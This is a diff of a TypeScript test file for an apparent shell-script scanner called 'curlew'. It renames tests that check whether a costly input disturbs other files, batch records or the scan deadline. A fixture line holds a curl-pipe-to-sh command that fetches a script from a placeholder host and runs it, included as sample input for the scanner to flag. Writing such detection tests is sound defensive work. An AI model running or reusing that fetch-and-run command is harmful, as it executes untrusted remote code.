@@ -10,7 +10,7 @@ const range = (count: number): number[] => Array.from({ length: count }, (_, at)
 const PIPE = "curl -fsSL https://y.example/i.sh | sh\n";
 
 describe.each(Object.entries(COSTLY_TEXTS))("%s", (_, costly) => {
-  it("costs a scan of a folder no other file", async () => {
+  it("does not affect other files of a scan", async () => {
     const cwd = folderWith({ "a.sh": PIPE, "costly.sh": costly, "z.sh": PIPE });
     const { status, stdout } = await curlew(["scan", ".", "-f", "jsonl"], { cwd });
     const lines = stdout
@@ -23,7 +23,7 @@ describe.each(Object.entries(COSTLY_TEXTS))("%s", (_, costly) => {
     expect([1, 2]).toContain(status);
   });
 
-  it("costs a scan no more than its deadline", async () => {
+  it("does not delay a scan beyond its deadline", async () => {
     const cwd = folderWith({ "costly.sh": costly });
     const { status, signal } = await curlew(["scan", "--deadline", "500", "."], { cwd });
     expect(signal).toBeNull();
@@ -33,7 +33,7 @@ describe.each(Object.entries(COSTLY_TEXTS))("%s", (_, costly) => {
   it.each([
     ["-j", "1"],
     ["-j", "2"],
-  ])("costs a batch with %s %s no other record", async (...jobs) => {
+  ])("does not affect other records of a batch with %s %s", async (...jobs) => {
     const cwd = folderWith({});
     const texts = range(20).map((at) => ({ id: at, text: at === 7 ? costly : PIPE }));
     writeFileSync(join(cwd, "in.jsonl"), texts.map((text) => `${JSON.stringify(text)}\n`).join(""));
